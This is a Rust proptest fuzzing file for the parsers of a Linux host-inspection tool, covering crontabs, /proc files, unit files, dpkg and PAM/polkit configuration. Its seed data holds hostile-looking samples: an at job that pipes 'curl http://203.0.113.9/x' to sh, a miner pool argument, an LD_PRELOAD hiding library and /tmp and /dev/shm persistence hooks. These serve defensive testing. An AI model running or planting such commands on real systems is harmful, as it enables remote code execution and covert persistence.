//! Property-based fuzzing of the collectors' parsers (proptest, stable Rust): unit files,
//! crontabs and at jobs, `/proc/net/*` tables (sockets, `fib_trie`, `route`), `/proc/PID/*`
//! files, dpkg's status, `systemctl list-units` output, `/etc/passwd`, apt configuration, PAM
//! lines, polkit rules and `.pkla` files, and the lossless byte/text encoding.
//!
//! Inputs are random bytes and real-looking seeds mutated with a dictionary of the tokens each
//! parser cares about (continuations, CRLF, sections, `@` schedules, `%`, parentheses, hex
//! addresses, invalid UTF-8...). Properties: no panic, and output bounded by the input (entries
//! at most one per line, values within their caps). `PROPTEST_CASES=100000 cargo test -p
//! dossier-collectors --test fuzz` runs longer. Inputs that once failed live in
//! `tests/fuzz-regressions/<target>/` at the repository root and are replayed by
//! `regressions_replay`.

/// The tests' skip-or-fail rule, shared with `dossier-tests` (which this crate cannot depend
/// on): the original is `tests/src/skip.rs`.
#[path = "../../tests/src/skip.rs"]
#[allow(dead_code)]
mod skip;

use dossier_collectors::cron::{
    ENV_BUDGET, Format, at_commands, at_run_time, long_lines, parse_crontab,
};
use dossier_collectors::hooks::pkgauth::apt::apt_hook_commands;
use dossier_collectors::hooks::pkgauth::pam::{PamEntry, pam_exec_command, pam_line, pam_lines};
use dossier_collectors::hooks::pkgauth::polkit::{pkla_grants, polkit_rule_grants};
use dossier_collectors::netif::{ipv4_by_interface, parse_fib_trie, parse_route};
use dossier_collectors::proc::{
    parse_cgroup, parse_cmdline, parse_environ_ld, parse_stat, parse_status_ids,
};
use dossier_collectors::shared::pkgdb::parse_dpkg_status;
use dossier_collectors::sockets::{parse_endpoint, parse_table};
use dossier_collectors::systemd::parse::{MAX_VALUE, parse};
use dossier_collectors::systemd::parse_list_units;
use dossier_collectors::util::Accounts;
use dossier_plugin_api::encoding::{bytes_to_text, text_to_bytes};
use dossier_plugin_api::records::SourceRef;
use proptest::prelude::*;
use proptest::sample::Index;
use std::path::{Path, PathBuf};

/// One edit of a seed: (operation, where, what, byte, count).
type Op = (u8, Index, Index, u8, usize);

fn apply(seed: &[u8], ops: &[Op], dict: &[&[u8]]) -> Vec<u8> {
    let mut v = seed.to_vec();
    for (op, at, what, byte, count) in ops {
        if v.len() > 1 << 20 {
            break;
        }
        let pos = if v.is_empty() {
            0
        } else {
            at.index(v.len() + 1)
        };
        match op % 7 {
            0 => {
                let tok = dict[what.index(dict.len())];
                v.splice(pos..pos, tok.iter().copied());
            }
            1 => {
                let end = (pos + count % 64).min(v.len());
                v.drain(pos..end);
            }
            2 if !v.is_empty() => {
                let p = pos.min(v.len() - 1);
                v[p] ^= byte | 1;
            }
            3 if !v.is_empty() => {
                // Repeat a slice: long lines, long continuations, many entries.
                let start = pos.min(v.len() - 1);
                let end = (start + 1 + what.index(64)).min(v.len());
                let piece = &v[start..end];
                let times = (count % 2048).min((256 << 10) / piece.len());
                let repeated = piece.repeat(times);
                v.splice(end..end, repeated);
            }
            4 => v.insert(pos, *byte),
            5 => {
                // Overwrite in place (keeps lengths that parsers check).
                let tok = dict[what.index(dict.len())];
                for (i, b) in tok.iter().enumerate() {
                    if let Some(slot) = v.get_mut(pos + i) {
                        *slot = *b;
                    }
                }
            }
            _ => v.truncate(pos),
        }
    }
    v
}

fn ops() -> impl Strategy<Value = Vec<Op>> {
    prop::collection::vec(
        (
            any::<u8>(),
            any::<Index>(),
            any::<Index>(),
            any::<u8>(),
            0usize..4096,
        ),
        0..24,
    )
}

/// Random bytes, or a seed mutated with tokens of `dict`.
fn input(
    seeds: &'static [&'static [u8]],
    dict: &'static [&'static [u8]],
) -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![
        1 => prop::collection::vec(any::<u8>(), 0..2048),
        4 => (prop::sample::select(seeds), ops()).prop_map(move |(s, o)| apply(s, &o, dict)),
    ]
}

const COMMON: &[&[u8]] = &[
    b"\n",
    b"\r\n",
    b"\r",
    b"\0",
    b"\xff",
    b"\xc3",
    b"\xe2\x82",
    b"%",
    b"%25",
    b"%0A",
    b" ",
    b"\t",
    b"\\",
    b"=",
    b"#",
    b";",
    b":",
    b"/",
    b"\"",
    b"'",
    b"(",
    b")",
    b"[",
    b"]",
    b"@",
];

const UNIT_SEEDS: &[&[u8]] = &[
    b"[Unit]\nDescription=x\n[Service]\nExecStart=/usr/bin/x -c \\\n  --y \\\n# c\n  --z\r\nUser=root\n[Install]\nWantedBy=multi-user.target\n",
    b"[Service]\r\nExecStart=\r\nExecStart=/bin/sh -c 'a; \\\r\n b'\r\n",
    b"[Timer]\nOnCalendar=*-*-* 6,18:00\nPersistent=true\n",
];
const UNIT_DICT: &[&[u8]] = &[
    b"\\\n",
    b"\\\r\n",
    b"\\",
    b"[Service]\n",
    b"[",
    b"]\n",
    b"ExecStart=",
    b"=",
    b"\n#",
    b"\n;",
    b"\n",
    b"\r\n",
    b"\xff\xfe",
    b"%00",
    b"key with space=1\n",
];

const CRON_SEEDS: &[&[u8]] = &[
    b"SHELL=/bin/sh\nPATH = \"/usr/bin\"\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n@reboot root /x >/dev/null 2>&1\n*/5 * * * * nobody echo 50\\% done % input\n",
    b"# DO NOT EDIT\r\n@reboot /tmp/.x/run\r\n0 3 * * 1 /usr/bin/backup --all%line2%line3\n",
    b"1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n@monthly 15 cron.monthly run-parts /etc/cron.monthly\n",
];
const CRON_DICT: &[&[u8]] = &[
    b"@reboot ",
    b"@every ",
    b"@",
    b"*/5 ",
    b"* ",
    b"1-5,7 ",
    b"root ",
    b"%",
    b"\\%",
    b"%25",
    b"A=b\n",
    b"\"",
    b"'",
    b"\n",
    b"\r\n",
    b"\xff",
    b"\t",
];

const PROC_SEEDS: &[&[u8]] = &[
    b"812 (log) S 1 812 812 0 -1 4194560 100 0 0 0 50 20 0 0 20 0 4 0 12345 1000000 200 18446744073709551615 1 1 0 0 0 0 0 0 0 0 0 0 17 1 0 0 0 0 0\n",
    b"77 (a) b (c)) R 1 77 77 0 -1 2097216 0 0 0 0 0 0 0 0 20 0 1 0 99 0 0 0 0",
    b"Name:\tx\nUmask:\t0022\nState:\tS (sleeping)\nUid:\t1000\t0\t0\t0\nGid:\t100\t100\t100\t100\nKthread:\t1\n",
    b"/var/log/log\0-o\0pool.example:3333\0",
    b"0::/system.slice/python.service\n12:pids:/x\n1:name=systemd:/user.slice/session-3.scope\n",
    b"HOME=/root\0LD_PRELOAD=/usr/lib/libhide.so\0LD_LIBRARY_PATH=/x\0LD_AUDIT=\0",
];
const PROC_DICT: &[&[u8]] = &[
    b"(",
    b")",
    b") ",
    b" ",
    b"\0",
    b"\n",
    b":",
    b"::",
    b"Uid:",
    b"Gid:",
    b"Kthread:",
    b"\t",
    b"LD_PRELOAD=",
    b"18446744073709551616",
    b"-1",
    b".service",
    b"name=systemd",
    b"\xff",
];

const NET_SEEDS: &[&[u8]] = &[
    b"  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n   0: 00000000:0D05 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 41001 1 0000000000000000 100 0 0 10 0\n   1: 0A00000F:D4C2 5DB8D822:0D05 01 00000000:00000000 02:000A7D1E 00000000     0        0 41003 2\n",
    b"  sl  local_address                         remote_address                        st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n   0: 0000000000000000FFFF00000100007F:0CEA 00000000000000000000000000000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 42002 1\n",
];
const NET_DICT: &[&[u8]] = &[
    b":",
    b" ",
    b"0",
    b"F",
    b"0A",
    b"00000000000000000000000000000000",
    b"0100007F",
    b"\xc3\xa9",
    b"\xe2\x82\xac",
    b"\xff",
    b"\n",
    b"FFFF:FFFF",
];

const FIB_SEEDS: &[&[u8]] = &[
    b"Main:\n  +-- 0.0.0.0/0 3 0 5\n     |-- 0.0.0.0\n        /0 universe UNICAST\n     +-- 127.0.0.0/8 2 0 2\n        +-- 127.0.0.0/31 1 0 0\n           |-- 127.0.0.0\n              /8 host LOCAL\n           |-- 127.0.0.1\n              /32 host LOCAL\n        |-- 127.255.255.255\n           /32 link BROADCAST\n     +-- 192.0.2.0/24 2 0 2\n           |-- 192.0.2.0\n              /24 link UNICAST\n           |-- 192.0.2.2\n              /32 host LOCAL\nLocal:\n",
    b"Iface\tDestination\tGateway \tFlags\tRefCnt\tUse\tMetric\tMask\t\tMTU\tWindow\tIRTT\neth0\t00000000\t010200C0\t0003\t0\t0\t0\t00000000\t0\t0\t0\neth0\t000200C0\t00000000\t0001\t0\t0\t0\t00FFFFFF\t0\t0\t0\n",
];
const FIB_DICT: &[&[u8]] = &[
    b"|-- ",
    b"+-- ",
    b"/32 host LOCAL\n",
    b"/8 host LOCAL\n",
    b"/0 universe UNICAST\n",
    b"/32 link BROADCAST\n",
    b"/33 host LOCAL\n",
    b"255.255.255.255",
    b"0.0.0.0",
    b"FFFFFFFF",
    b"00000000",
    b"0001",
    b"\t",
    b"\n",
    b"\xff",
    b"Main:\n",
];

const DPKG_SEEDS: &[&[u8]] = &[
    b"Package: cron\nStatus: install ok installed\nVersion: 3.0pl1-162\nConffiles:\n /etc/crontab 1e0e6ba8bd7a4c5d2d0c0b9d6bb5b4f1\n /etc/cron.d/x 00000000000000000000000000000000 obsolete\nDescription: x\n more\n .\n\nPackage: dash\nVersion: 0.5\n",
];
const DPKG_DICT: &[&[u8]] = &[
    b"\n",
    b"\n\n",
    b" ",
    b"\t",
    b":",
    b"Package:",
    b"Conffiles:\n",
    b" /etc/x ",
    b"\xff",
    b"\r\n",
];

const MISC_SEEDS: &[&[u8]] = &[
    b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/sh\n",
    b"python.service loaded active running Python Service\n\xe2\x97\x8f cron.service loaded failed failed x\n",
    b"#!/bin/sh\n# atrun uid=0 gid=0\numask 22\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\ncurl -s http://203.0.113.9/x | sh\n",
];

fn lines(data: &[u8]) -> usize {
    data.split(|b| *b == b'\n').count()
}

fn src() -> SourceRef {
    SourceRef::path_only("/etc/crontab")
}

// Targets, one function each, shared by the properties and the regression replay.

fn target_unit(data: &[u8]) {
    let u = parse(data);
    assert!(u.directives.len() + u.warnings.len() <= lines(data));
    for d in &u.directives {
        assert!(
            d.value.len() <= MAX_VALUE,
            "value of {} bytes",
            d.value.len()
        );
        assert!(d.line as usize <= lines(data));
    }
    for w in &u.warnings {
        assert!(w.len() < 400, "warning of {} bytes", w.len());
    }
}

fn target_crontab(data: &[u8]) {
    let n = lines(data);
    for f in [Format::System, Format::User, Format::Anacron] {
        let e = parse_crontab(data, f, "root", &src());
        assert!(e.len() <= n);
        let env: usize = e
            .iter()
            .flat_map(|x| x.env.iter())
            .map(|(k, v)| k.len() + v.len())
            .sum();
        assert!(env <= ENV_BUDGET, "{env} bytes of variables in entries");
        for x in &e {
            assert!(x.command.len() <= 3 * (64 << 10) + 16);
            assert!(x.line as usize <= n);
        }
    }
    assert!(long_lines(data).len() <= lines(data));
    let t = at_commands(data);
    assert!(t.len() <= 3 * data.len() + 1);
    let name = String::from_utf8_lossy(&data[..data.len().min(14)]);
    let _ = at_run_time(&name);
}

fn target_proc(data: &[u8]) {
    if let Some(s) = parse_stat(data) {
        assert!(s.comm.len() <= 3 * data.len());
    }
    let _ = parse_status_ids(data);
    let argv = parse_cmdline(data);
    assert!(argv.len() <= data.len() + 1);
    let (path, unit) = parse_cgroup(data);
    assert!(path.map_or(0, |p| p.len()) <= 3 * data.len());
    assert!(unit.map_or(0, |p| p.len()) <= 3 * data.len());
    let (a, b, c) = parse_environ_ld(data);
    for v in [a, b, c].into_iter().flatten() {
        assert!(v.len() <= 3 * data.len());
    }
}

fn target_net(data: &[u8]) {
    for proto in ["tcp", "tcp6", "udp", "udp6"] {
        let (rows, bad) = parse_table(data, proto);
        assert!(rows.len() + bad <= lines(data));
    }
    for field in String::from_utf8_lossy(data).split_whitespace() {
        let _ = parse_endpoint(field);
    }
}

fn target_fib(data: &[u8]) {
    let fib = parse_fib_trie(data);
    assert!(fib.local.len() + fib.local_ranges.len() + fib.broadcast.len() <= lines(data));
    let (routes, bad) = parse_route(data);
    assert!(routes.len() + bad <= lines(data));
    // Every local address ends up attributed to exactly one interface or listed as unknown.
    let m = ipv4_by_interface(&fib, &routes, &["lo".to_string()]);
    let attributed: usize = m.by_iface.values().map(Vec::len).sum();
    assert_eq!(attributed + m.unattributed.len(), fib.local.len());
}

fn target_dpkg(data: &[u8]) {
    let p = parse_dpkg_status(data);
    assert!(p.len() <= lines(data));
    let total: usize = p
        .iter()
        .flat_map(|m| m.iter())
        .map(|(k, v)| k.len() + v.len())
        .sum();
    assert!(total <= 3 * data.len() + lines(data));
}

fn target_misc(data: &[u8]) {
    let a = Accounts::parse(data);
    assert!(a.list.len() <= lines(data));
    let _ = a.homes();
    assert!(parse_list_units(data).len() <= lines(data));
    // The byte/text encoding is lossless.
    let text = bytes_to_text(data);
    assert_eq!(text_to_bytes(&text), data);
    assert!(text.len() <= 3 * data.len());
}

const HOOK_SEEDS: &[&[u8]] = &[
    b"// c\nDPkg::Post-Invoke {\"rm -f /var/cache/apt/*.bin || true\";};\nAPT { Update { Post-Invoke-Success { \"x\"; }; }; };\n/* b */ DPkg::Pre-Install-Pkgs:: \"y\";\n#clear DPkg;\n",
    b"#%PAM-1.0\n@include common-auth\nauth [success=1 default=ignore] pam_unix.so nullok\n-session optional pam_exec.so quiet log=/x /dev/shm/s\npassword required pam_x.so [a b\\] c] \\\n more\n",
    b"polkit.addRule(function(action, subject) {\n  if (action.id == \"a\" && subject.user == \"svc\") { return polkit.Result.YES; }\n  // return polkit.Result.YES;\n});\n",
    b"[x]\nIdentity=unix-user:bob;unix-group:sudo\nAction=*\nResultAny=yes\n",
];
const HOOK_DICT: &[&[u8]] = &[
    b"{",
    b"}",
    b";",
    b"\"",
    b"::",
    b"//",
    b"/*",
    b"*/",
    b"#include",
    b"DPkg::Post-Invoke",
    b"[",
    b"]",
    b"\\]",
    b"\\\n",
    b"@include",
    b"pam_exec.so",
    b"-auth",
    b"polkit.Result.YES",
    b"addRule(",
    b"subject.user == ",
    b"subject.isInGroup(\"",
    b"ResultAny=yes",
    b"Identity=",
    b"\n",
    b"\xff",
    b"\xc3",
    b"\0",
];

fn target_hooks(data: &[u8]) {
    let text = String::from_utf8_lossy(data);
    // apt: every command is a quoted string of the input.
    let cmds = apt_hook_commands(&text);
    assert!(cmds.len() <= text.matches('"').count());
    assert!(cmds.iter().all(|c| text.contains(c.as_str())));
    // PAM: at most one entry per line, exec commands made of the line's words.
    let lines = pam_lines(&text);
    assert!(lines.len() <= text.lines().count() + 1);
    for (n, l) in &lines {
        assert!(*n >= 1);
        for with_service in [false, true] {
            if let Some(PamEntry::Module(m)) = pam_line(l, with_service) {
                if let Some(c) = pam_exec_command(&m.args) {
                    assert!(c.len() <= l.len());
                }
            }
        }
    }
    // polkit: at most one grant per YES (plus the cap note), per pkla section.
    let yes = text.matches("polkit.Result.YES").count();
    assert!(polkit_rule_grants(&text).len() <= yes.min(1001));
    assert!(pkla_grants(&text).len() <= text.matches('[').count());
}

/// A fuzz target: panics (through its assertions) when a property does not hold.
type Target = fn(&[u8]);

const TARGETS: &[(&str, Target)] = &[
    ("unit", target_unit),
    ("crontab", target_crontab),
    ("proc", target_proc),
    ("net", target_net),
    ("fib", target_fib),
    ("dpkg", target_dpkg),
    ("misc", target_misc),
    ("hooks", target_hooks),
];

/// 64 cases per target by default (CI); `PROPTEST_CASES` sets more.
fn config() -> ProptestConfig {
    let mut c = ProptestConfig::default();
    if std::env::var_os("PROPTEST_CASES").is_none() {
        c.cases = 64;
    }
    // Failing inputs are kept by hand in tests/fuzz-regressions/, not in proptest's files.
    c.failure_persistence = None;
    c
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn fuzz_unit_file_parser(data in input(UNIT_SEEDS, UNIT_DICT)) {
        target_unit(&data);
    }

    #[test]
    fn fuzz_crontab_parser(data in input(CRON_SEEDS, CRON_DICT)) {
        target_crontab(&data);
    }

    #[test]
    fn fuzz_proc_pid_parsers(data in input(PROC_SEEDS, PROC_DICT)) {
        target_proc(&data);
    }

    #[test]
    fn fuzz_proc_net_parser(data in input(NET_SEEDS, NET_DICT)) {
        target_net(&data);
    }

    #[test]
    fn fuzz_fib_trie_and_route_parsers(data in input(FIB_SEEDS, FIB_DICT)) {
        target_fib(&data);
    }

    #[test]
    fn fuzz_dpkg_status_parser(data in input(DPKG_SEEDS, DPKG_DICT)) {
        target_dpkg(&data);
    }

    #[test]
    fn fuzz_apt_pam_polkit_parsers(data in input(HOOK_SEEDS, HOOK_DICT)) {
        target_hooks(&data);
    }

    #[test]
    fn fuzz_misc_parsers_and_encoding(data in input(MISC_SEEDS, COMMON)) {
        target_misc(&data);
    }
}

/// `tests/fuzz-regressions/` at the repository root.
fn corpus() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .unwrap()
        .join("tests/fuzz-regressions")
}

#[test]
fn regressions_replay() {
    let mut replayed = 0;
    let mut missing = vec![];
    for (name, target) in TARGETS {
        let dir = corpus().join(name);
        let Ok(rd) = std::fs::read_dir(&dir) else {
            missing.push(dir.display().to_string());
            continue;
        };
        // `.keep` holds an empty folder in git; it is not an input.
        for e in rd
            .flatten()
            .filter(|e| !e.file_name().to_string_lossy().starts_with('.'))
        {
            let data = std::fs::read(e.path()).unwrap();
            let r = std::panic::catch_unwind(|| target(&data));
            assert!(r.is_ok(), "{} fails again", e.path().display());
            replayed += 1;
        }
    }
    eprintln!("replayed {replayed} regression input(s)");
    if !missing.is_empty() {
        skip::skip_or_fail(&format!("no regression folder {}", missing.join(", ")));
    }
}
